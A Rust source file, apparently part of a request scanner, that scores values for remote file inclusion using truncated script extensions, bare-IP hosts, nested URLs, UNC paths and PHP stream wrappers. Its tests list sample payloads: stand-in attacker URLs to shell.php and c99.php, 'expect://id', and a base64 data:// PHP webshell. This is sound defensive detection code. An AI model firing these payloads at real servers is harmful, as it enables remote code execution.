//! Remote file inclusion: a value that makes an `include`-style sink load code from elsewhere.
//! Real traffic carries plenty of URLs (redirect targets, websites, referers), so a URL alone
//! is never enough; the score comes from RFI-specific signals of the *fetched resource*:
//!
//! * a script or text extension (`.php`, `.txt`, `.inc`, `.jsp` ...) cut off by a trailing `?`,
//!   `%00`/NUL or `#`, the trick that neutralises an extension the application appends;
//! * a script/text resource on a bare IP address;
//! * a text/payload resource (`.txt`, `.inc`, `.sh` ...) — servers serve those as source;
//! * a URL placed as a parameter value inside another URL or path (`/x.php?path=http://...`);
//! * UNC paths (`\\host\share\x.php`) and PHP stream wrappers (`php://input`, `php://filter`,
//!   `data://text/plain;base64,`, `expect://`, `phar://`, `zip://`).
//!
//! A plain page URL (`https://example.com/a`, `https://shop.example/item.php?id=3`) scores
//! below the threshold.

use crate::check::Check;
use crate::finding::Finding;

/// URLs examined per value.
const MAX_URLS: usize = 64;
/// Bytes of one URL examined.
const MAX_URL: usize = 2048;

/// Extensions of pages a web server runs.
const PAGE_EXT: [&str; 14] = [
    "php", "php3", "php4", "php5", "php7", "phtml", "jsp", "jspx", "asp", "aspx", "cgi", "cfm",
    "pl", "phar",
];
/// Extensions of files a server hands out as text: the usual carrier of an included payload.
const TEXT_EXT: [&str; 5] = ["txt", "inc", "sh", "py", "rb"];

pub fn inspect(text: &str) -> Option<Finding> {
    let mut best: Option<(f32, String)> = None;
    let mut keep = |score: f32, why: String| {
        if best.as_ref().is_none_or(|(s, _)| score > *s) {
            best = Some((score, why));
        }
    };
    if let Some((s, w)) = wrapper(text) {
        keep(s, w);
    }
    if let Some((s, w)) = unc(text) {
        keep(s, w);
    }
    for url in urls(text).take(MAX_URLS) {
        if let Some((s, w)) = judge(text, &url) {
            keep(s, w);
        }
    }
    let (score, why) = best?;
    Some(Finding::new(Check::Rfi, score, why))
}

/// One remote URL found in the value.
struct Url<'a> {
    scheme: String,
    /// Byte offset of the scheme in the value.
    at: usize,
    host: &'a str,
    path: &'a str,
    /// What follows the path (query, fragment, NUL ...), up to the end of the URL.
    tail: &'a str,
}

fn urls(text: &str) -> impl Iterator<Item = Url<'_>> {
    let b = text.as_bytes();
    let lead = text.len() - text.trim_start().len();
    // Protocol-relative `//host/x.php` at the start of the value.
    let relative = text[lead..]
        .starts_with("//")
        .then_some((lead, lead + 2, "http"));
    let schemes = memchr::memmem::find_iter(b, b"://").filter_map(move |i| {
        let start = (0..i)
            .rev()
            .take(8)
            .take_while(|&j| b[j].is_ascii_alphabetic())
            .last()?;
        let scheme = &text[start..i];
        let s = scheme.to_ascii_lowercase();
        let s: &'static str = match s.as_str() {
            "http" => "http",
            "https" => "https",
            "ftp" => "ftp",
            "ftps" => "ftps",
            "smb" => "smb",
            _ => return None,
        };
        Some((start, i + 3, s))
    });
    relative
        .into_iter()
        .chain(schemes)
        .filter_map(move |(at, body, scheme)| {
            let rest = clip(&text[body..], MAX_URL);
            let auth_end = rest
                .find(|c: char| {
                    matches!(c, '/' | '\\' | '?' | '#' | '&' | '\0') || c.is_whitespace()
                })
                .unwrap_or(rest.len());
            let auth = &rest[..auth_end];
            let host = auth.rfind('@').map_or(auth, |p| &auth[p + 1..]);
            let host = host.split(':').next().unwrap_or(host);
            let after = &rest[auth_end..];
            let path_end = after
                .find(|c: char| matches!(c, '?' | '#' | '&' | '\0' | '%') || c.is_whitespace())
                .unwrap_or(after.len());
            let tail_end = after.find(char::is_whitespace).unwrap_or(after.len());
            Some(Url {
                scheme: scheme.to_string(),
                at,
                host,
                path: &after[..path_end],
                tail: &after[path_end..tail_end.max(path_end)],
            })
        })
}

fn judge(text: &str, u: &Url) -> Option<(f32, String)> {
    if u.host.is_empty() {
        return None;
    }
    let ext = extension(u.path);
    let page = PAGE_EXT.contains(&ext.as_str());
    let textish = TEXT_EXT.contains(&ext.as_str());
    let cut = cut_marker(u.tail);
    let ip = is_ipv4(u.host);
    // The URL sits as a parameter value inside another URL or path: `...?x=http://...`.
    let before = &text[..u.at];
    let nested = before.ends_with('=') && before.contains('?');
    let what = if page { "script" } else { "text" };
    let (score, why) = if (page || textish) && cut.is_some() {
        (
            0.9,
            format!(
                "{what} resource .{ext} with the appended extension cut off by {}",
                cut.unwrap_or("")
            ),
        )
    } else if (page || textish) && ip {
        (0.8, format!("{what} resource .{ext} on a bare IP host"))
    } else if (page || textish) && nested {
        (
            0.8,
            format!("URL of a {what} resource .{ext} passed as a parameter of another URL"),
        )
    } else if textish {
        (
            0.6,
            format!("URL of a text resource .{ext} (served as source, not run)"),
        )
    } else if matches!(u.scheme.as_str(), "ftp" | "ftps" | "smb")
        && !u.path.trim_matches('/').is_empty()
    {
        (0.55, format!("{} URL of a file for inclusion", u.scheme))
    } else if page {
        (0.35, format!("URL of a .{ext} page"))
    } else if nested {
        (0.4, "URL passed as a parameter of another URL".to_string())
    } else {
        return None;
    };
    Some((score, format!("remote {} URL: {why}", u.scheme)))
}

/// The extension of the last path segment, lower-cased.
fn extension(path: &str) -> String {
    let seg = path.rsplit(['/', '\\']).next().unwrap_or("");
    match seg.rsplit_once('.') {
        Some((stem, ext)) if !stem.is_empty() && ext.len() <= 5 => ext.to_ascii_lowercase(),
        _ => String::new(),
    }
}

/// A trailing `?` with an empty query, a NUL (`%00`, `\0`), or a bare `#`.
fn cut_marker(tail: &str) -> Option<&'static str> {
    if tail.starts_with('\0') || tail.starts_with("%00") {
        return Some("a NUL byte");
    }
    if let Some(q) = tail.strip_prefix('?') {
        if q.is_empty() || q.starts_with(['&', '?', '#']) || q.starts_with("%00") {
            return Some("an empty query '?'");
        }
    }
    if tail == "#" {
        return Some("an empty fragment '#'");
    }
    None
}

fn is_ipv4(host: &str) -> bool {
    host.parse::<std::net::Ipv4Addr>().is_ok()
        || (!host.is_empty()
            && host
                .bytes()
                .all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b'x' || b == b'X')
            && host.bytes().next().is_some_and(|b| b.is_ascii_digit()))
}

/// PHP stream wrappers that read request data, local files or archives as code.
fn wrapper(text: &str) -> Option<(f32, String)> {
    let lower = text.trim_start().to_ascii_lowercase();
    for (w, score) in [
        ("php://input", 0.9),
        ("php://filter", 0.8),
        ("data://text/plain", 0.9),
        ("data:text/plain;base64,", 0.8),
        ("expect://", 0.9),
        ("phar://", 0.8),
        ("zip://", 0.75),
        ("php://fd", 0.8),
    ] {
        if lower.contains(w) {
            return Some((score, format!("PHP stream wrapper {w}")));
        }
    }
    None
}

/// `\\host\share\path`: a Windows UNC path, fetched over SMB by `include`.
fn unc(text: &str) -> Option<(f32, String)> {
    let t = text.trim_start();
    let rest = t.strip_prefix("\\\\")?;
    let host_end = rest.find('\\')?;
    let host = &rest[..host_end];
    if host.is_empty()
        || !host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
    {
        return None;
    }
    let path = &rest[host_end..];
    let ext = extension(path.split(['?', '%', '\0']).next().unwrap_or(""));
    if PAGE_EXT.contains(&ext.as_str()) || TEXT_EXT.contains(&ext.as_str()) {
        return Some((0.85, format!("UNC path to a .{ext} file on host '{host}'")));
    }
    Some((0.45, format!("UNC path on host '{host}'")))
}

fn clip(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(s: &str) -> bool {
        inspect(s).is_some_and(|f| f.score >= 0.5)
    }

    #[test]
    fn inclusion_payloads() {
        for s in [
            "http://evil.com/shell.txt?",
            "http://evil.com/shell.php?",
            "ftp://x.example/y.txt%00",
            "http://evil.example/x.php\u{0}",
            "\\\\attacker\\share\\x.php",
            "https://pastebin.com/raw/abc.txt?",
            "http://203.0.113.8/r57.php",
            "http://evil/x.txt",
            "/index.php?page=http://evil.example/c99.php",
            "php://input",
            "php://filter/convert.base64-encode/resource=index.php",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
            "expect://id",
            "//evil.example/shell.txt?",
            "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
        ] {
            assert!(flagged(s), "{s}");
        }
    }

    #[test]
    fn ordinary_urls_pass() {
        for s in [
            "https://example.com/a",
            "https://www.example.com/",
            "https://github.com/x/y",
            "https://shop.example/item.php?id=3",
            "http://blog.example/index.php",
            "https://example.com/login?next=https://example.com/home",
            "https://www.google.com/search?q=php+include",
            "see https://docs.python.org/3/library/os.html",
            "data:image/png;base64,iVBORw0KGgo=",
            "C:\\Users\\me\\notes.txt",
            "report.txt",
            "\\\\fileserver\\docs\\report.pdf",
        ] {
            assert!(!flagged(s), "{s}");
        }
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let _ = inspect(&"http://".repeat(20_000));
        let _ = inspect(&"a://b/".repeat(20_000));
        let _ = inspect("http://é/ü.php?");
        let _ = inspect("\\\\\\\\");
    }
}
